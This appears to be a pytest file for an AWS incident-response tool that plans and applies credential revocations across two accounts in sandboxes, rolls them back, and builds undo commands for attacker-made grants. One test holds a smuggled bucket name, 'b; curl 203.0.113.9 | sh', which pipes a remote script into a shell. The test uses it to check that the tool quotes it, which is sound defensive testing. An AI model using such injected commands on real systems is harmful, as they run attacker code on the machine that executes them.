"""One plan for a whole scope: every role and user, every account; applied per account and rolled back."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import boto3
import pandas as pd
import pytest

import ircreds
from ircreds import aws
from ircreds.containment import (
    WarningCode,
    grant_undo,
    plan_scope,
    resource_grants,
    revocations_by_account,
)
from ircreds.containment.policy import POLICY_NAME
from ircreds.errors import PlanError
from ircreds.sandbox import start_sandbox
from ircreds.scenarios import Scenario, generate

HERE = Path(__file__).resolve().parent


@pytest.fixture(scope="module")
def case() -> tuple[Scenario, pd.DataFrame]:
    s = generate(5, events=1200, twists=["cross_account", "more_stolen_credentials"])
    return s, ircreds.load(s.records)


@pytest.fixture(scope="module")
def scope_plan(case: tuple[Scenario, pd.DataFrame]):
    s, events = case
    sc = ircreds.scope(events, key=s.answer_key["leaked_access_key_id"])
    end = events["eventTime"].max().to_pydatetime()
    return sc, plan_scope(sc, now=end, events=events)


def test_scope_plan_revokes_every_role_of_the_scope_in_both_accounts(case, scope_plan) -> None:
    s, _ = case
    sc, p = scope_plan
    by_account = revocations_by_account(p)
    assert set(by_account) == {s.answer_key["account_id"], s.answer_key["other_account_id"]}
    roles = {c.role_arn for c in sc.compromised if c.role_arn}
    assert roles <= {r.arn for r in p.revocations}
    # the stolen instance session's role gets the cut-off and the EC2 advice
    instance_role = next(c.role_arn for c in sc.compromised if c.kind == "Service")
    advice = [w for w in p.warnings if w.code == WarningCode.INSTANCE_PROFILE and w.target == instance_role]
    assert advice
    assert any("aws:SourceVpc" in w.message for w in advice)
    # the stolen long-term key cannot be reached by a deny: its deactivation is listed
    (user_key,) = [k for k in s.answer_key["stolen_access_key_ids"] if k.startswith("AKIA")]
    assert any(u.access_key_id == user_key for u in p.uncovered)


def test_scope_plan_json_is_the_plan_contract(scope_plan) -> None:
    sc, p = scope_plan
    doc = json.loads(json.dumps(sc.to_dict(p)))
    assert doc["plan"]["revocations"]
    assert {"cutoff", "revocations", "uncovered", "warnings"} <= set(doc["plan"])


@pytest.fixture
def two_sandboxes(case, aws_credentials) -> Iterator[dict[str, object]]:
    """A sandbox per account: this process's, and a second moto server in its own process."""
    s, _ = case
    main = {k: v for k, v in s.account.items() if k != "linked_accounts"}
    (other,) = s.account["linked_accounts"]
    path = Path(os.environ.get("TMPDIR", "/tmp")) / f"ircreds-other-account-{os.getpid()}.json"
    path.write_text(json.dumps(other))
    proc = subprocess.Popen(
        [sys.executable, str(HERE / "_scope" / "serve_sandbox.py"), str(path)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )
    try:
        assert proc.stdout is not None
        info = json.loads(proc.stdout.readline())
        iam_other = boto3.session.Session(
            aws_access_key_id=info["key"], aws_secret_access_key=info["secret"], region_name="us-east-1"
        ).client("iam", endpoint_url=info["endpoint_url"])
        with start_sandbox(main, reuse=False) as sb:
            yield {main["account_id"]: sb, other["account_id"]: iam_other}
    finally:
        assert proc.stdin is not None
        proc.stdin.close()
        proc.wait(timeout=30)
        path.unlink(missing_ok=True)


def _inline(target, role: str) -> dict | None:
    iam = target if hasattr(target, "get_role_policy") else target.client("iam")
    try:
        doc = iam.get_role_policy(RoleName=role, PolicyName=POLICY_NAME)["PolicyDocument"]
    except iam.exceptions.NoSuchEntityException:
        return None
    return json.loads(doc) if isinstance(doc, str) else doc


def test_multi_account_plan_applies_to_a_sandbox_per_account_and_rolls_back(
    scope_plan, two_sandboxes, tmp_path: Path
) -> None:
    _, p = scope_plan
    now = p.cutoff + timedelta(minutes=1)
    by_account = revocations_by_account(p)
    records = aws.apply_by_account(
        p, two_sandboxes, now=now, dry_run=False, confirm=True, record_dir=tmp_path
    )
    assert set(records) == set(by_account)
    for account, revs in by_account.items():
        assert records[account].account_id == account
        for rev in revs:
            if rev.target_kind == "role":
                doc = _inline(two_sandboxes[account], rev.target)
                assert doc == rev.policy
    back = aws.rollback_by_account(
        records, two_sandboxes, now=now, dry_run=False, confirm=True, record_dir=tmp_path
    )
    assert set(back) == set(by_account)
    for account, revs in by_account.items():
        for rev in revs:
            if rev.target_kind == "role":
                assert _inline(two_sandboxes[account], rev.target) is None


def test_apply_by_account_refuses_an_account_without_target_before_any_change(case, scope_plan) -> None:
    s, _ = case
    _, p = scope_plan
    other = s.answer_key["other_account_id"]
    with pytest.raises(PlanError, match=f"account\\(s\\) {other} but no target"):
        aws.apply_by_account(p, {s.answer_key["account_id"]: object()}, now=p.cutoff, dry_run=True)


@pytest.mark.parametrize(
    ("name", "params", "response", "expected"),
    [
        (
            "AddPermission20150331v2",
            {"functionName": "orders", "statementId": "x1", "principal": "*"},
            {},
            "aws lambda remove-permission --function-name orders --statement-id x1",
        ),
        ("PutBucketPolicy", {"bucketName": "exports"}, {}, "aws s3api delete-bucket-policy --bucket exports"),
        (
            "PutBucketAcl",
            {"bucketName": "exports"},
            {},
            "aws s3api put-bucket-acl --bucket exports --acl private",
        ),
        (
            "CreateGrant",
            {"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab"},
            {"grantId": "0c237476"},
            "aws kms revoke-grant --key-id 1234abcd-12ab-34cd-56ef-1234567890ab --grant-id 0c237476",
        ),
        (
            "UpdateAssumeRolePolicy",
            {"roleName": "ExampleRole"},
            {},
            "aws iam update-assume-role-policy --role-name ExampleRole",
        ),
    ],
)
def test_grant_undo_names_the_call_that_undoes_each_grant(name, params, response, expected) -> None:
    assert grant_undo(name, params, response).startswith(expected)


def test_grant_undo_quotes_attacker_written_names() -> None:
    undo = grant_undo("PutBucketAcl", {"bucketName": "b; curl 203.0.113.9 | sh"})
    assert "'b; curl 203.0.113.9 | sh'" in undo


def test_resource_grants_lists_only_successful_grants_and_says_when_open_to_everyone() -> None:
    calls = pd.DataFrame(
        {
            "eventID": ["e1", "e2", "e3"],
            "eventName": ["AddPermission20150331v2", "PutBucketPolicy", "ListBuckets"],
            "errorCode": [None, "AccessDenied", None],
            "requestParameters": [
                json.dumps({"functionName": "orders", "statementId": "x1", "principal": "*"}),
                json.dumps({"bucketName": "exports"}),
                None,
            ],
            "responseElements": [None, None, None],
            "userIdentity.accessKeyId": ["ASIAIOSFODNN7EXAMPLE"] * 3,
        }
    )
    (grant,) = resource_grants(calls)
    assert grant.event_ids == ("e1",)
    assert "principal *" in grant.detail
    assert "remove-permission" in grant.action
